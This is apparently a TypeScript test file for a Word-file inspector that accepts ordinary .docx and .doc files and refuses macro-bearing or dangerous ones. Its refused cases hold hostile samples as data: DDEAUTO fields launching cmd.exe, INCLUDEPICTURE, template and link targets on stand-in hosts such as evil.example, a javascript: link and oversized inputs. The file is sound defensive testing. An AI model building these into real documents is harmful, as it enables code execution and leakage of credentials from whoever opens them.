import { describe, expect, test } from 'vitest'
import { makeDoc } from '#tests/setup/files/dokument-files.ts'
import { makeWordFile, OFFICE, type WordChange, wordField, wordPart, wordRels } from '#tests/setup/files/word-files.ts'
import { inspectDoc } from './dokument-doc.server.ts'
import { inspectDocx } from './dokument-word.server.ts'

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const MICROSOFT = 'http://schemas.microsoft.com/office'

describe('DOKUMENT-4: a Word file of today', () => {
  test.for<[name: string, change: WordChange]>([
    ['as Word writes it', {}],
    [
      'with fields for contents, day and entries of a list of literature',
      {
        body:
          wordField(' TOC \\o "1-3" \\h ', '\\z') + wordField('DATE') + wordField(' ADDIN ZOTERO_ITEM ', '{"id":1}'),
      },
    ],
    [
      'with a link as a field, and one within the text',
      {
        body:
          wordField(' HYPERLINK "https://example.org" \\t "_blank" \\o "Tipp: hier" ') +
          wordField(' HYPERLINK \\l "Anlage" \\h ') +
          wordField(' HYPERLINK https://example.org/a '),
      },
    ],
    [
      'with a field inside the instruction of another',
      {
        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText></w:r>${wordField('PAGE')}<w:r><w:instrText> = 1 "a" "b"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      },
    ],
    [
      'with a font of its own',
      {
        types: { '.odttf': 'application/vnd.openxmlformats-officedocument.obfuscatedFont' },
        parts: {
          'word/_rels/fontTable.xml.rels': wordRels([['font', 'fonts/font1.odttf']]),
          'word/fonts/font1.odttf': 'x',
        },
      },
    ],
    [
      'by the strict edition of the standard',
      { relationships: [['http://purl.oclc.org/ooxml/officeDocument/relationships/image', 'media/image1.png']] },
    ],
    [
      'with a text called document2.xml, as Word on the web writes it',
      {
        types: { 'word/document.xml': 'application/xml', 'word/document2.xml': `${WORD}.document.main+xml` },
        parts: { 'word/document2.xml': wordPart('document', '') },
      },
    ],
    [
      'in UTF-16',
      {
        parts: {
          'word/footer1.xml': Buffer.from(
            `\ufeff${wordPart('ftr', wordField('PAGE')).replace('UTF-8', 'UTF-16')}`,
            'utf16le',
          ),
        },
      },
    ],
  ])('%s, is taken', async ([, change]) => {
    expect(await inspectDocx(await makeWordFile(change))).toMatchObject({ format: 'docx', anzeige: 'download' })
  })

  test.for<[name: string, change: WordChange]>([
    [
      'an object, whatever its part is called',
      {
        relationships: [['oleObject', 'media/image9.dat']],
        types: { '.dat': 'image/png' },
        parts: { 'word/media/image9.dat': 'x' },
      },
    ],
    [
      'the type of an object',
      { types: { 'word/media/image9.dat': 'application/vnd.openxmlformats-officedocument.oleObject' } },
    ],
    [
      'macros, whatever their part is called',
      { relationships: [[`${MICROSOFT}/2006/relationships/vbaProject`, 'data.bin']] },
    ],
    ['the type of macros', { types: { '.bin': 'application/vnd.ms-office.vbaProject' } }],
    [
      'a main part with macros',
      { types: { 'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' } },
    ],
    ['a table with macros inside', { relationships: [['package', 'embeddings/x.xlsm']] }],
    ['another text inside', { relationships: [['aFChunk', 'chunk.rtf']] }],
    ['a control', { relationships: [['control', 'activeX/activeX1.xml']] }],
    ['an unknown relationship', { relationships: [['https://example.org/relationships/new', 'new.xml']] }],
    ['a picture from the net', { relationships: [['image', 'https://example.org/a.png', 'External']] }],
    ['a picture of another machine', { relationships: [['image', 'file:////evil.example/s/x.png', 'External']] }],
    ['a picture of another machine that says it is inside', { relationships: [['image', '\\\\evil.example\\x.png']] }],
    [
      'a template from the net',
      {
        parts: {
          'word/_rels/settings.xml.rels': wordRels([['attachedTemplate', 'https://example.org/a.dotm', 'External']]),
        },
      },
    ],
    [
      'a template of another machine',
      {
        parts: {
          'word/_rels/settings.xml.rels': wordRels([['attachedTemplate', 'file://evil.example/a.dotm', 'External']]),
        },
      },
    ],
    ['a link to a program', { relationships: [['hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External']] }],
    ['a link with a script', { relationships: [['hyperlink', 'javascript:alert(1)', 'External']] }],
    [
      'a hidden kind of relationship',
      {
        parts: {
          'word/_rels/x.RELS': wordRels([]).replace(
            '</',
            `<x:a xmlns:x="y"/><Relationship xmlns:x="y" Id="r" x:Type="a" Type="${OFFICE}/image" Target="b"/></`,
          ),
        },
      },
    ],
    [
      'a document type',
      { parts: { 'word/_rels/x.rels': wordRels([]).replace('<Rel', '<!DOCTYPE a [<!ENTITY b "c">]><Rel') } },
    ],
    ['another alphabet', { parts: { 'word/header1.xml': wordPart('hdr', '').replace('UTF-8', 'UTF-7') } }],
    ['DDEAUTO', { body: wordField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }],
    ['a field in pieces', { body: wordField(' D', 'D', 'E excel x') }],
    ['INCLUDEPICTURE', { body: wordField(' INCLUDEPICTURE "\\\\\\\\evil\\\\x" \\d ') }],
    [
      'INCLUDETEXT in a head',
      {
        parts: {
          'word/header1.xml': wordPart('hdr', '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;//evil/x&quot;"/></w:p>'),
        },
      },
    ],
    [
      'LINK in a footnote',
      { parts: { 'word/footnotes.xml': wordPart('footnotes', wordField('link Excel.Sheet "x"')) } },
    ],
    ['a field that is deleted', { body: wordField('DDE x y').replaceAll('instrText', 'delInstrText') }],
    [
      'a field that never ends',
      { body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x y</w:instrText></w:r></w:p>' },
    ],
    [
      'a field whose name is made by another',
      {
        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${wordField('QUOTE 68 68 69')}<w:r><w:instrText> x y</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      },
    ],
    [
      'a field among signs of another kind',
      {
        body: '<w:p xmlns:x="x"><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><x:fldChar fldCharType="end"/><w:instrText>DE x</w:instrText><w:fldChar w:fldCharType="end"/></w:p>',
      },
    ],
    ['a link to another machine as a field', { body: wordField(' HYPERLINK "\\\\\\\\evil\\\\x" ') }],
    [
      'a link to another machine behind what a switch names',
      { body: wordField(' HYPERLINK \\t "_blank" "file:////evil/x" ') },
    ],
    ['a link to a program behind a switch', { body: wordField(' HYPERLINK \\n file:///C:/calc.exe') }],
    [
      'a letter to many that asks a database',
      {
        parts: { 'word/settings.xml': wordPart('settings', '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>') },
      },
    ],
    [
      'a drawing that loads its picture',
      { body: '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil/x.png"/></w:pict>' },
    ],
    [
      'a drawing whose picture comes from the net by another name',
      {
        body: '<w:pict><v:fill xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:href="http://evil/x.png"/></w:pict>',
      },
    ],
  ])('with %s, is refused', async ([, change]) => {
    expect(await inspectDocx(await makeWordFile(change))).toEqual({ refused: 'DATEI_MAKROS' })
  })

  test.for<[name: string, change: WordChange]>([
    [
      'whose list of relationships is no XML, and 90 MB of it',
      { parts: { 'word/_rels/x.rels': '<'.repeat(90_000_000) } },
    ],
    [
      'whose list of relationships is larger than a megabyte',
      { parts: { 'word/_rels/x.rels': wordRels([]) + ' '.repeat(1_100_000) } },
    ],
    ['with 30 MB of text', { parts: { 'word/comments.xml': wordPart('comments', '<w:p/>'.repeat(5_000_000)) } }],
    ['of a thousand elements in each other', { body: '<w:p>'.repeat(1000) + '</w:p>'.repeat(1000) }],
    ['with two parts of one name', { parts: { 'word/Document.xml': 'x' } }],
    ['with a part in pieces', { parts: { 'word/media/a.png/[0].piece': 'x' } }],
  ])('%s, is unreadable', async ([, change]) => {
    const begin = process.cpuUsage()
    const result = await inspectDocx(await makeWordFile(change)).catch(() => ({ refused: 'DATEI_UNLESBAR' }))
    expect(result).toEqual({ refused: 'DATEI_UNLESBAR' })
    // Ratio of CPU time, not a clock time; it was fifteen before.
    expect(process.cpuUsage(begin).user).toBeLessThan(10_000_000)
  })

  test('refuses a file without Word text', async () => {
    const types = { 'word/document.xml': 'application/xml' }
    expect(await inspectDocx(await makeWordFile({ types }))).toEqual({ refused: 'DATEI_TYP' })
  })
})

describe('DOKUMENT-4: a Word file of before 2007', () => {
  const names = ['Root Entry', 'WordDocument', '1Table', '\x01CompObj', '\x05SummaryInformation']
  const withText = (text: string, encoding: BufferEncoding = 'latin1') =>
    Buffer.concat([makeDoc(names), Buffer.from(text, encoding), Buffer.alloc(512)])

  test.for<[name: string, bytes: () => Buffer]>([
    ['as Word writes it', () => makeDoc(names)],
    ['with a folder for objects and none in it', () => makeDoc([...names, 'ObjectPool'], { child: 0xffffffff })],
    ['with the number of a page', () => withText('\x13 PAGE \x14 1 \x15')],
    ['with a template of its own machine', () => withText('C:\\Vorlagen\\Normal.dot', 'utf16le')],
  ])('%s, is taken', ([, bytes]) => {
    expect(inspectDoc(bytes())).toMatchObject({ format: 'doc', anzeige: 'download' })
  })

  test.for<[name: string, bytes: () => Buffer]>([
    ['objects', () => makeDoc([...names, 'ObjectPool'])],
    ['what an object is', () => makeDoc([...names, '\x01Ole10Native'])],
    ['a second description of a file', () => makeDoc([...names, '\x01CompObj'])],
    ['macros', () => makeDoc([...names, '_VBA_PROJECT'])],
    ['macros in small letters', () => makeDoc([...names, 'macros'])],
    ['DDEAUTO', () => withText('\x13 DDEAUTO cmd \x15')],
    ['INCLUDEPICTURE of two bytes a letter', () => withText('\x13 INCLUDEPICTURE "\\\\\\\\evil\\\\x" \x15', 'utf16le')],
    ['a template from the net', () => withText('https://example.org/a.dotm', 'utf16le')],
    ['a template of another machine behind many signs', () => withText(`${'\\'.repeat(400)}evil\\Brief.dot`)],
  ])('with %s, is refused', ([, bytes]) => {
    expect(inspectDoc(bytes())).toEqual({ refused: 'DATEI_MAKROS' })
  })

  test('of ten megabytes of backslashes is read within a few seconds of work', () => {
    const begin = process.cpuUsage()
    expect(inspectDoc(withText(`${'\\\\a'.repeat(3_300_000)}.dot`))).toMatchObject({ refused: 'DATEI_MAKROS' })
    expect(process.cpuUsage(begin).user).toBeLessThan(6_000_000)
  })
})
